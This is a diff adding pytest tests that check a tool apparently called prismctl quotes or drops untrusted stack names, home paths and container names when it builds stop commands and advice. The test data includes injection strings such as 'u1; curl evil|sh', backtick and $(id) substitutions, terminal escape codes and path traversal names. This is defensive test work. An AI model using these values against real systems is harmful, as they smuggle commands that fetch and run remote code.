@@ -1,11 +1,20 @@
 from __future__ import annotations
 
+import shlex
+import subprocess
+import sys
 from typing import TYPE_CHECKING
 
 import pytest
 
 from prismctl.domain.addressing import PortConflict, PortHolder
-from prismctl.domain.port_owner import ContainerOwner, StackOwner, describe_owner, stop_command
+from prismctl.domain.port_owner import (
+    ContainerOwner,
+    StackOwner,
+    advise_on_container,
+    describe_owner,
+    stop_command,
+)
 from prismctl.domain.service import ServiceName
 from prismctl.files.paths import Home
 from prismctl.files.stack_owners import recognize_stack
@@ -13,7 +22,7 @@ from prismctl.machine import who_holds
 from prismctl.machine.port_owners import find_container, find_publisher, owner_of_container
 from prismctl.planning import PortTakenError, render_conflict
 from tests.free_ports import take_port
-from tests.port_holder import holding
+from tests.port_holder import HOLDER, holding
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -41,6 +50,86 @@ def test_a_service_of_a_stack_is_known_by_its_marks(
     assert strange is not None
     assert strange.owner is not None
     assert strange.owner.is_other_home
+
+
+EVIL = "u1; curl evil|sh #\x1b]0;OWNED\x07"
+
+
+def test_a_process_cannot_put_shell_code_into_the_command_that_stops_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name, value in (("PRISM_KEEPER", "k"), ("PRISM_STACK", EVIL), ("PRISM_SERVICE", EVIL)):
+        monkeypatch.setenv(name, value)
+    port = take_port()
+    with holding(port):
+        seen = recognize_stack(who_holds(port), Home(tmp_path))
+    assert seen is not None
+    assert seen.owner == StackOwner("k", is_other_home=True)
+    assert stop_command(seen.owner) == "`prismctl dev stop` with its PRISM_HOME"
+
+
+@pytest.mark.parametrize(
+    ("lock", "home", "stack"),
+    [
+        ("/tmp/`curl evil`;$(id)/run/u1/keeper.lock", "/tmp/`curl evil`;$(id)", "u1"),
+        (f"/h/run/{EVIL.replace('/', '')}/keeper.lock", "/h", ""),
+        ("/tmp/\x1b]0;OWNED\x07/run/u1/keeper.lock", "", "u1"),
+        ("/tmp/a\nb/run/u1/keeper.lock", "", "u1"),
+    ],
+)
+def test_the_home_on_a_command_line_is_quoted_or_left_out(
+    lock: str, home: str, stack: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PRISM_KEEPER", "k")
+    port = take_port()
+    with subprocess.Popen(
+        [sys.executable, "-S", "-c", HOLDER, str(port), "meek", "--id", "k", "--lock", lock],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        text=True,
+    ) as process:
+        assert process.stdout is not None
+        assert process.stdout.readline() == "listening\n"
+        holder = who_holds(port)
+        process.kill()
+    assert holder is not None
+    assert holder.owner is not None
+    assert (holder.owner.home, holder.owner.stack) == (home, stack)
+
+
+def test_the_command_that_stops_another_home_is_one_command_whatever_its_path() -> None:
+    home = "/tmp/`curl evil`; it's $(id)"
+    command = stop_command(StackOwner("k", "u1", home=home, is_other_home=True), mark="")
+    assert shlex.split(command) == [
+        f"PRISM_HOME={home}",
+        *["prismctl", "dev", "stop", "--stack", "u1"],
+    ]
+    assert f"PRISM_HOME={shlex.quote(home)} " in command
+
+
+def test_a_container_that_is_called_like_shell_code_is_not_named() -> None:
+    for name in (EVIL, "--all", "a b", "`id`"):
+        owner = find_container(["conmon", "-n", name], 5432)
+        assert owner == ContainerOwner("podman")
+        assert advise_on_container(owner) == "`podman ps` shows which it is"
+    quoted = advise_on_container(ContainerOwner("podman", "a; b"))
+    assert quoted == "`podman stop 'a; b'` ends it"
+    own = owner_of_container(ContainerOwner("podman", f"prism-e7eb399dc1c6f39a-{EVIL}"))
+    assert own == StackOwner("prism-e7eb399dc1c6f39a")
+
+
+@pytest.mark.parametrize("name", ["..", ".", "u1;id", "u1\n", "../run/u1"])
+def test_no_process_is_taken_for_a_stack_that_cannot_be_one(tmp_path: Path, name: str) -> None:
+    home = Home(tmp_path)
+    home.stack("u1").ensure()
+    (home.stacks / name.replace("/", "")).mkdir(exist_ok=True)
+    holder = PortHolder(pid=7, owner=StackOwner(home.stack(name).keeper_id, name, "a"))
+    seen = recognize_stack(holder, home)
+    assert seen is not None
+    assert seen.owner is not None
+    # A path that leads to a stack is that stack, by its own name.
+    is_u1 = home.stack(name).keeper_id == home.stack("u1").keeper_id
+    assert (seen.owner.stack, seen.owner.is_other_home) == (("u1", False) if is_u1 else ("", True))
 
 
 def test_a_stranger_is_nobodys() -> None:
